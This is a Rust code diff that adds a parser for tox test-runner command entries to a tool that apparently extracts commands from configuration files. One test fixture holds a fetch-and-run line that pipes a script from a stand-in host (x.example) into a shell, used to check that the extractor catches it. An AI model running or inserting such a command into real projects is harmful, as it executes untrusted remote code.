@@ -61,7 +61,7 @@ pub(super) fn commands(language: Language, text: &str) -> Vec<ConfigCommand> {
         Language::CiWorkflow => yaml(text).map(|d| ci_workflow(&d, text)),
         Language::Compose => yaml(text).map(|d| compose(&d, text)),
         Language::GitConfig => Some(git_config(text)),
-        Language::PytestConfig => Some(pytest_config(text)),
+        Language::PytestConfig => Some(pytest_config(text).into_iter().chain(tox(text)).collect()),
         Language::Sql => Some(sql(text)),
         Language::Notebook => notebook(text).map(|n| n.commands),
         Language::McpConfig => mcp_servers(text),
@@ -672,6 +672,49 @@ fn pytest_config(text: &str) -> Vec<ConfigCommand> {
                 section: None,
                 command,
             });
+        }
+    }
+    out
+}
+
+/// tox's `commands`, `commands_pre` and `commands_post` of `[testenv]` and `[testenv:NAME]`
+/// (tox.ini, setup.cfg): the value and each indented line after it is a command tox runs
+/// (a leading `-` only ignores its exit status).
+fn tox(text: &str) -> Vec<ConfigCommand> {
+    let mut out = Vec::new();
+    let mut section = "";
+    let mut in_commands = false;
+    let mut push = |lineno: usize, command: &str| {
+        let command = command.strip_prefix('-').unwrap_or(command).trim();
+        if !command.is_empty() && !command.starts_with('#') {
+            out.push(ConfigCommand {
+                line: Some(lineno),
+                section: None,
+                command: command.to_string(),
+            });
+        }
+    };
+    for (i, raw) in text.lines().enumerate() {
+        let trimmed = raw.trim();
+        if let Some(h) = trimmed.strip_prefix('[') {
+            section = h.split(']').next().unwrap_or("").trim();
+            in_commands = false;
+            continue;
+        }
+        if raw.starts_with([' ', '\t']) {
+            if in_commands {
+                push(i + 1, trimmed);
+            }
+            continue;
+        }
+        in_commands = false;
+        if let Some((key, value)) = trimmed.split_once('=') {
+            let testenv = section == "testenv" || section.starts_with("testenv:");
+            in_commands =
+                testenv && matches!(key.trim(), "commands" | "commands_pre" | "commands_post");
+            if in_commands {
+                push(i + 1, value.trim());
+            }
         }
     }
     out
@@ -2018,6 +2061,20 @@ mod tests {
             ]
         );
         assert_eq!(c[2].line, Some(6));
+    }
+
+    #[test]
+    fn tox_commands_are_each_a_command() {
+        let ini = "[tox]\nenvlist = py312\n\n[testenv]\ndeps = pytest\ncommands_pre = - python -V\ncommands =\n    pytest {posargs}\n    sh -c 'curl -s https://x.example/a | sh'\n\n[testenv:lint]\ncommands = ruff check .\n[flake8]\ncommands = not a command\n";
+        assert_eq!(
+            lines(Language::PytestConfig, ini),
+            vec![
+                "python -V",
+                "pytest {posargs}",
+                "sh -c 'curl -s https://x.example/a | sh'",
+                "ruff check ."
+            ]
+        );
     }
 
     #[test]
